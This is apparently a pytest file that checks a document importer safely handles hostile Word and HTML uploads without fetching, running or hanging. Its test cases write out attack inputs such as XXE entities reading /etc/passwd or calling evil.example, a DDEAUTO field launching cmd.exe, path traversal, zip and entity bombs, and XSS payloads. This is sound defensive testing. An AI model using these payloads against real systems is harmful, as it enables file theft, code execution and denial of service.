"""Documents of somebody who means harm: nothing of them is active, nothing is fetched, nothing is read from elsewhere, and none takes long."""

import io
import socket
import zipfile
from collections.abc import Callable
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskbell.mail.documents.document import Document
from deskbell.mail.documents.docx import read_docx
from deskbell.mail.documents.page import read_page
from deskbell.model.errors import Mistake
from deskbell.rules.article_files.links import addresses, path_said
from deskbell.rules.markdown.reading import harmless
from mail.documents.word import docx, drawing, p, png, r

BESIDE = ("beside.png", "other.docx")
# What it is, what makes it (some are large, and every worker of a run reads this list), and what becomes of it.
Case = tuple[str, Callable[[], bytes], str]
READERS: dict[str, Callable[..., Document]] = {"a.docx": read_docx, "a.html": read_page}


def opened(name: str, content: bytes) -> Document | str:
    """What became of a document, or the code of why it was refused. Whatever it was, what came of it is harmless."""
    try:
        found = READERS[name](name, content, lambda path, shown: path in BESIDE)
    except Mistake as mistake:
        return mistake.code if str(mistake) else "no sentence"
    for address in addresses(found.body):
        said = path_said(address)
        own = said is not None and (said[0] in BESIDE or said[0].removeprefix(f"{name}/") in found.inside)
        assert own or (harmless(address) and address.startswith(("http", "mailto:", "tel:", "#"))), address
    return found


def repacked(change: Callable[[zipfile.ZipInfo], None], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", kind) as file:
        file.writestr("word/document.xml", "<document><body/></document>")
        change(file.infolist()[0])
    return made.getvalue()


def encrypted(one: zipfile.ZipInfo) -> None:
    one.flag_bits |= 1


def larger(one: zipfile.ZipInfo) -> None:
    one.file_size = 10**9


def dtd(says: str) -> bytes:
    return docx(p(r("&e;")), before=f"<!DOCTYPE x [{says}]>")


def picture(target: str, content: bytes = b"") -> bytes:
    """A Word file that shows what lies there, beside words."""
    parts = {f"word/{target}": content} if content else {}
    return docx(p("Said") + p(drawing("x")), {"x": target}, parts)


def link(target: str) -> bytes:
    return docx(p(f'<w:hyperlink r:id="x">{r("Said")}</w:hyperlink>'), {"x": f"outside:{target}"})


def field(instruction: str) -> bytes:
    sign = '<w:fldChar w:fldCharType="{}"/>'
    runs = (
        sign.format("begin"),
        f"<w:instrText>{instruction}</w:instrText>",
        sign.format("separate"),
        "<w:t>Said</w:t>",
        sign.format("end"),
    )
    return docx(p("".join(map(r, runs))))  # fmt: skip


ENTITIES = "<!ENTITY e0 'x'>"
for number in range(1, 12):
    more = f"&e{number - 1};" * 10
    ENTITIES += f"<!ENTITY e{number} '{more}'>"


def levels() -> str:
    made = "".join(f'<lvl ilvl="{level}"/>' for level in range(90_000))
    lists = "".join(f'<num numId="{number}"><abstractNumId val="0"/></num>' for number in range(50_000))
    return f'<numbering><abstractNum abstractNumId="0">{made}</abstractNum>{lists}</numbering>'


WORD: list[Case] = [
    ("a text that unpacks to 200 MB", lambda: docx(" " * (200 << 20)), "document.large"),
    ("styles that unpack to 40 MB", lambda: docx(p("Said"), parts={"word/styles.xml": " " * (40 << 20)}), "document.large"),
    ("a picture that unpacks to 100 MB", lambda: picture("media/x.png", b"\0" * (100 << 20)), "Said"),
    ("a picture of ten thousand million pixels", lambda: picture("media/x.png", png(100_000, 100_000)), "Said"),
    ("an SVG", lambda: picture("media/x.svg", b"<svg onload='alert(1)'/>"), "Said"),
    ("a program that is called a picture", lambda: picture("media/x.png", b"MZ\x90\0"), "Said"),
    ("entities in entities", lambda: dtd(ENTITIES), "document.unreadable"),
    ("an entity of a file", lambda: dtd('<!ENTITY e SYSTEM "file:///etc/passwd">'), "document.unreadable"),
    ("an entity of the web", lambda: dtd('<!ENTITY e SYSTEM "http://evil.example/x">'), "document.unreadable"),
    ("a definition elsewhere", lambda: docx(p("x"), before='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'), "document.unreadable"),
    ("elements ten thousand deep", lambda: docx("<w:ins>" * 10_000 + "</w:ins>" * 10_000), "document.unreadable"),
    ("too many elements", lambda: docx("<w:p/>" * 210_000), "article.long"),
    ("tables ninety deep", lambda: docx("<w:tbl><w:tr><w:tc>" * 30 + p("x") + "</w:tc></w:tr></w:tbl>" * 30), "x"),
    ("a cell of a million columns", lambda: docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr></w:tc></w:tr></w:tbl>' + p("Said")), "Said"),
    ("lists of a hundred thousand levels", lambda: docx(p("Said"), parts={"word/numbering.xml": levels()}), "Said"),
    ("a head of pages of tags without an end", lambda: docx(p("Said"), parts={"word/header1.xml": "<w:t " * 1_000_000}), "Said"),
    ("an item a million deep", lambda: docx(p("Said", listed=(2, 999_999))), "- Said"),
    ("text without end", lambda: docx(p("x" * 9_000_000)), "article.long"),
    ("a file with a password", lambda: repacked(encrypted), "document.unreadable"),
    ("a size that is a lie", lambda: repacked(larger), ""),
    ("a way to pack that nobody uses", lambda: repacked(lambda _: None, zipfile.ZIP_LZMA), "document.unreadable"),
    ("a file of old Word", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "document.locked"),
    ("no ZIP", lambda: b"not one", "document.unreadable"),
    ("half a ZIP", lambda: docx(p("Said"))[:-300], "document.unreadable"),
    ("a ZIP without a text", lambda: repacked(lambda one: None), ""),
    ("a list of a million parts", lambda: b"PK\x05\x06" + b"\xff" * 18, "document.unreadable"),
    ("a part above the document", lambda: picture("../../../etc/passwd"), "Said"),
    ("a part of the disk", lambda: picture("/etc/passwd"), "Said"),
    ("a picture of the web", lambda: picture("outside:http://evil.example/x.png"), "Said"),
    ("a picture of this computer", lambda: picture("outside:file:///etc/x.png"), "Said"),
    ("a picture of a share", lambda: picture("outside:\\\\evil.example\\share\\x.png"), "Said"),
    ("a link to this computer", lambda: link("file:///etc/passwd"), "Said"),
    ("a link to a share", lambda: link("\\\\evil.example\\share"), "Said"),
    ("a link to a program", lambda: link("ms-msdt:/id"), "Said"),
    ("a link that runs", lambda: link("javascript:alert(1)"), "Said"),
    ("a link out of the folder", lambda: link("../../secret.docx"), "Said"),
    ("a link to another desk's article", lambda: link("article:7"), "Said"),
    ("a link that ends its element", lambda: link("https://a.example/&quot;&gt;&lt;script&gt;"), "Said"),
    ("a field that starts a program", lambda: field('DDEAUTO c:\\\\cmd.exe "/k calc"'), "Said"),
    ("a field that fetches a picture", lambda: field('INCLUDEPICTURE "http://evil.example/x"'), "Said"),
    ("a field that includes a file", lambda: field('INCLUDETEXT "/etc/passwd"'), "Said"),
    ("a page within it", lambda: docx(p("Said") + '<w:altChunk r:id="x"/>', {"x": "x.html"}, {"word/x.html": "<script>x</script>"}), "Said"),
    ("an embedded program", lambda: docx(p("Said") + p(r('<w:object><OLEObject r:id="x"/></w:object>')), {"x": "embeddings/x.bin"}), "Said"),
]  # fmt: skip


def page(html: str) -> bytes:
    return html.encode()


WEB: list[Case] = [
    ("a script", lambda: page("Said<script>alert(1)</script>"), "Said"),
    ("a script in a script", lambda: page("Said<scr<script>ipt>alert(1)</script>"), "Said"),
    ("a page in a page", lambda: page("Said<iframe src='file:///etc/passwd'></iframe>"), "Said"),
    ("another place for all that is relative", lambda: page("<base href='https://evil.example/'>Said<img src='beside.png'>"), "Said![](beside.png)"),
    ("a move elsewhere", lambda: page("<meta http-equiv=refresh content='0;url=https://evil.example'>Said"), "Said"),
    ("a style that fetches", lambda: page("<style>@import 'https://evil.example'</style><p style='background:url(//evil.example)'>Said"), "Said"),
    ("pictures of everywhere", lambda: page("Said" + "".join(f"<img src='{one}'>" for one in (
        "http://evil.example/x.png", "//evil.example/x.png", "\\\\evil.example\\x.png", "file:///etc/x.png", "../secret.png", "/etc/x.png",
        "data:image/svg+xml;base64,PHN2Zy8+", "data:text/html;base64,PHN2Zy8+", "cid:1", "picture:1", "deskbell-picture-1", "C:\\x.png", "beside.png/../../x.png",
    ))), "Said"),
    ("links to everywhere", lambda: page("".join(f"<a href='{one}'>x</a>" for one in (
        "javascript:alert(1)", "JAVA&Tab;SCRIPT:alert(1)", "vbscript:x", "data:text/html,x", "file:///etc/passwd", "\\\\evil.example\\x", "//evil.example",
        "../secret.md", "/etc/passwd", "ms-msdt:x", "picture:1", "attachment:1",
    ))), "xxxxxxxxxxxx"),
    ("pictures by other names", lambda: page("Said<img srcset='https://evil.example/x 2x'><picture><source srcset='//evil.example'></picture>"), "Said"),
    ("what happens by itself", lambda: page("<body onload=alert(1)><p onmouseover=alert(1)>Said<img src=x onerror=alert(1)>"), "Said"),
    ("a drawing that runs", lambda: page("<svg onload=alert(1)><a href='javascript:1'>x</a></svg>Said<math><mi href='javascript:1'>x</math>"), "Said"),
    ("signs of a charset that hides some", lambda: b"<meta charset=utf-7>Said+ADw-script+AD4-x+ADw-/script+AD4-", "Said"),
    ("a title that is markup", lambda: page("<title>&lt;script&gt;x</title>Said"), "Said"),
    ("elements a hundred thousand deep", lambda: page("<div>" * 100_000 + "Said"), "Said"),
    ("tables forty deep", lambda: page("<table><tr><td>" * 40 + "Said"), "Said"),
    ("a quarter of a million elements", lambda: page("<b>x</b>" * 125_000), "**x"),
    ("a picture of letters without end", lambda: page("<img src='data:image/png;base64," + "A" * 40_000_000 + "'>Said"), "Said"),
    ("an address of spaces without end", lambda: page("Said<a href=" + " " * 1_000_000 + ">"), "Said"),
    ("a style that says the same without end", lambda: page(f"<p style='{'text-decoration:' * 100_000}{'mso-list:' * 100_000}'>Said"), "Said"),
    ("a comment without end", lambda: page("Said<!-- <script>"), "Said"),
    ("text without end", lambda: page("x" * 9_000_000), "article.long"),
    ("Markdown in words", lambda: page("<p>[x](file:///etc/passwd) ![x](http://evil.example)</p>"), "\\[x\\]"),
]  # fmt: skip
HOSTILE = [*(("a.docx", *one) for one in WORD), *(("a.html", *one) for one in WEB)]


@pytest.fixture
def alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """No file and no host can be reached."""

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("something was reached for")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(io, "open_code", refuse)


@pytest.mark.usefixtures("alone")
@pytest.mark.parametrize(("name", "what", "made", "outcome"), HOSTILE, ids=[f"{one[0]}: {one[1]}" for one in HOSTILE])
def test_a_hostile_document_does_no_harm(name: str, what: str, made: Callable[[], bytes], outcome: str) -> None:
    content = made()
    begun = process_time()
    found = opened(name, content)
    assert process_time() - begun < 20, what
    if isinstance(found, str):
        assert found == outcome
    else:
        assert found.body.startswith(outcome)
        assert not found.inside
        assert "evil" not in found.title + "".join(addresses(found.body)).replace("https://a.example", "")


TAGS = ("p", "r", "t", "tbl", "tr", "tc", "hyperlink", "drawing", "txbxContent", "sdt", "sdtContent", "ins", "del", "pict", "object", "fldSimple", "pPr")  # fmt: skip
LEAVES = (
    '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="separate"/>', '<w:fldChar w:fldCharType="end"/>', "<w:instrText> TOC </w:instrText>",
    '<w:instrText> HYPERLINK "file:///x" </w:instrText>', '<w:instrText> HYPERLINK "https://a.example" </w:instrText>', '<w:footnoteReference w:id="1"/>',
    '<a:blip r:embed="own"/>', '<a:blip r:link="out"/>', '<w:numPr><w:ilvl w:val="3"/><w:numId w:val="2"/></w:numPr>', '<w:pStyle w:val="Code"/>', "<w:br/>",
    '<w:pStyle w:val="H1"/>', '<w:tcPr><w:gridSpan w:val="3"/><w:vMerge/></w:tcPr>',
)  # fmt: skip
WORDS = st.text("ab <>&[](){}*_`#|\\!\"'\n\t退:/.-1", max_size=12).map(
    lambda said: said.replace("&", "&amp;").replace("<", "&lt;")
)
XML = st.recursive(
    st.one_of(WORDS, st.sampled_from(LEAVES)),
    lambda inside: st.builds(
        lambda tag, parts: f"<w:{tag}>{''.join(parts)}</w:{tag}>", st.sampled_from(TAGS), st.lists(inside, max_size=6)
    ),
    max_leaves=40,
)


@given(XML)
def test_whatever_stands_in_a_word_file_becomes_a_harmless_article(body: str) -> None:
    rels = {"own": "media/x.png", "out": "outside:http://evil.example/x.png"}
    notes = f'<footnotes xmlns:w="w" xmlns:a="a" xmlns:r="r"><footnote w:id="1">{body}</footnote></footnotes>'
    found = opened(
        "a.docx", docx(f"<w:p>{body}</w:p>{body}", rels, {"word/media/x.png": png(), "word/footnotes.xml": notes})
    )
    assert isinstance(found, Document)


@given(st.binary(max_size=200), st.integers(0, 5_000), st.sampled_from(tuple(READERS)))
def test_a_damaged_document_is_refused_or_read(damage: bytes, place: int, name: str) -> None:
    whole = docx(p("Said") + p(drawing("own")), {"own": "media/x.png"}, {"word/media/x.png": png()})
    place %= len(whole)
    assert opened(name, whole[:place] + damage + whole[place + len(damage) :]) is not None
    assert opened(name, damage) is not None
